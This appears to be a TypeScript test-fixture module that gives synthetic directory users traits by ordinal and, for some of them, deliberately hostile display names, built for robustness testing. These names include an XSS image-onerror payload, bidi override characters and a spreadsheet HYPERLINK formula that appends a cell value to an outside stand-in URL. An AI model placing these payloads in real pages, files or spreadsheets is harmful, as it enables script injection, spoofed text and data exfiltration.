/** Special traits of every nth user. Small directories have them too. */

const TRAITS = {
  guest: [31, 5],
  disabled: [23, 11],
  withoutExchange: [19, 9],
  lapsed: [41, 3],
  movedPlan: [43, 4],
  withoutMail: [37, 15],
  capitalizedAddress: [29, 2],
  aliased: [3, 1],
  withoutCreation: [7, 6],
  /** Licensed, but never opened. */
  withoutOneDrive: [9, 4],
  markup: [211, 17],
  bidirectional: [211, 29],
  formula: [211, 43],
  long: [211, 61],
  emoji: [211, 83],
} as const;

export type Trait = keyof typeof TRAITS;

/** Whether the user with that ordinal has the trait. */
export function hasTrait(ordinal: number, trait: Trait): boolean {
  const [every, offset] = TRAITS[trait];
  return ordinal % every === offset;
}

/** Display names that break careless consumers: markup, bidi controls, formulas, length, emoji. */
const HOSTILE_NAMES: readonly (readonly [
  'markup' | 'bidirectional' | 'formula' | 'long' | 'emoji',
  (name: string) => string,
])[] = [
  ['markup', (name) => `${name} <img src=x onerror=alert(document.domain)>`],
  ['bidirectional', (name) => `\u202E${name}\u202C \u2066(finance)\u2069`],
  ['formula', (name) => `=HYPERLINK("https://example.invalid/?q="&A1,"${name}")`],
  ['long', (name) => `${name} `.repeat(64).slice(0, 256)],
  ['emoji', (name) => `${name} 👩🏽‍🚀🏳️‍🌈`],
];

/** All hostile traits have the same period, so a single lookup finds the right one. */
const HOSTILE_EVERY = TRAITS.markup[0];
const DISGUISES = new Map<number, (name: string) => string>(
  HOSTILE_NAMES.map(([trait, change]) => [TRAITS[trait][1], change]),
);

/** Makes the display name hostile if the user has such a trait. */
export function applyHostileName(ordinal: number, name: string): string {
  const change = DISGUISES.get(ordinal % HOSTILE_EVERY);
  return change ? change(name) : name;
}
